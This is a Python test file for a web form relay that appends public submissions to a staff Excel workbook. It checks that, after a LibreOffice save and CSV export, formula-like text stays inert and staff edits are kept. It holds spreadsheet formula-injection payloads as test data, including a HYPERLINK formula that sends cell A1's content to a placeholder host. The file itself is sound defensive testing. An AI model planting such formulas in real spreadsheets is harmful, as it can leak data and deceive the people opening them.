"""The staff workbook after a person has worked in it and saved it in LibreOffice.

Staff fill their own columns and colour rows, then LibreOffice (headless, its
own profile) loads the workbook and saves it back as .xlsx, replacing the file
as a person pressing save would. The relay must then append without losing
any of that and without turning text from the public into a formula, also not
when staff finally export the sheet to CSV.

Headless LibreOffice saves no view settings, so the frozen header row does
not survive this conversion (it does when a person saves from the window);
the test does not ask for it.
"""

import csv
import os
import re
import shutil
import subprocess
from datetime import datetime

import pytest
from openpyxl import load_workbook
from openpyxl.styles import PatternFill

from tests.conftest import require_tool
from tests.formsvc.formsvc_helpers import deliver_all, sheet_rows, submit

# LibreOffice's first start builds its profile, which takes a while on a busy machine.
LIBREOFFICE_TIMEOUT_SECONDS = 240
HOSTILE_COMPANY = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")'
HOSTILE_MESSAGE = "+SUM(1;2)\n=1+1"
YELLOW = "FFFFFF00"


@pytest.fixture(scope="module")
def libreoffice(tmp_path_factory):
    """Run soffice headless with a throwaway profile; returns run(arguments, cwd)."""
    require_tool("soffice", "LibreOffice Calc (Debian libreoffice-calc-nogui)")
    profile = tmp_path_factory.mktemp("libreoffice-profile")

    def run(*arguments, cwd):
        command = [shutil.which("soffice"), f"-env:UserInstallation={profile.as_uri()}",
                   "--headless", "--norestore", *arguments]
        result = subprocess.run(command, cwd=cwd, capture_output=True, text=True,
                                timeout=LIBREOFFICE_TIMEOUT_SECONDS)
        assert result.returncode == 0, result.stderr
        return result

    return run


def save_in_libreoffice(libreoffice, workbook_path, scratch):
    """Load and save as .xlsx in LibreOffice, then put the result where it was."""
    scratch.mkdir(exist_ok=True)
    libreoffice("--convert-to", "xlsx:Calc MS Excel 2007 XML", "--outdir", str(scratch),
                str(workbook_path), cwd=scratch)
    os.replace(scratch / workbook_path.name, workbook_path)


def export_csv(libreoffice, workbook_path, scratch):
    """The sheet as staff would export it: UTF-8, comma-separated."""
    scratch.mkdir(exist_ok=True)
    libreoffice("--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(scratch),
                str(workbook_path), cwd=scratch)
    with open(scratch / workbook_path.with_suffix(".csv").name, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_staff_edits_survive_a_libreoffice_save_and_no_formula_appears(app, client, libreoffice, tmp_path):
    workbook_path = app.config["SHEET_PATH"]
    assert submit(client, company=HOSTILE_COMPANY, message=HOSTILE_MESSAGE).status_code == 303
    assert submit(client, company="Beta AB", role="@admin", contact_name="-2+3").status_code == 303
    deliver_all(app)

    # Staff at work: status, handler and note on the first row, which they colour yellow.
    workbook = load_workbook(workbook_path)
    sheet = workbook.worksheets[0]
    letters = {cell.value: cell.column_letter for cell in sheet[1]}
    sheet[f"{letters['Status']}2"] = "Kontaktad"
    sheet[f"{letters['Handläggare']}2"] = "Lena"
    sheet[f"{letters['Anteckning']}2"] = "Ringer på fredag"
    for cell in sheet[2]:
        cell.fill = PatternFill("solid", fgColor=YELLOW)
    workbook.save(workbook_path)
    save_in_libreoffice(libreoffice, workbook_path, tmp_path / "saved")

    assert submit(client, company="=1+2", message="@SUMMA(A1:A9)").status_code == 303
    deliver_all(app)

    first, second, third = sheet_rows(workbook_path)
    assert [row["Företag"].value for row in (first, second, third)] == ["'" + HOSTILE_COMPANY, "Beta AB", "'=1+2"]
    assert (first["Status"].value, first["Handläggare"].value, first["Anteckning"].value) == (
        "Kontaktad", "Lena", "Ringer på fredag")
    assert first["Referens"].fill.fgColor.rgb == YELLOW
    assert (third["Status"].value, third["Handläggare"].value, third["Anteckning"].value) == (None, None, None)
    assert first["Meddelande"].value == "'" + HOSTILE_MESSAGE
    assert (second["Roll"].value, second["Kontaktperson"].value) == ("'@admin", "'-2+3")
    assert third["Meddelande"].value == "'@SUMMA(A1:A9)"
    assert all(isinstance(row["Inkommen"].value, datetime) for row in (first, second, third))
    assert len({row["Referens"].value for row in (first, second, third)}) == 3

    sheet = load_workbook(workbook_path).worksheets[0]
    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
    (drop_down,) = sheet.data_validations.dataValidation  # LibreOffice keeps the Status list
    assert "Kontaktad" in drop_down.formula1
    assert sheet.auto_filter.ref.endswith("4")  # the filter covers the row appended after the save

    # LibreOffice itself evaluates nothing either: exported to CSV, the text is still text.
    exported = export_csv(libreoffice, workbook_path, tmp_path / "csv")
    assert [row["Företag"] for row in exported] == ["'" + HOSTILE_COMPANY, "Beta AB", "'=1+2"]
    assert exported[0]["Meddelande"] == "'" + HOSTILE_MESSAGE
    assert exported[0]["Status"] == "Kontaktad"
    # Inkommen is a date LibreOffice shows in the format staff read.
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", row["Inkommen"]) for row in exported)
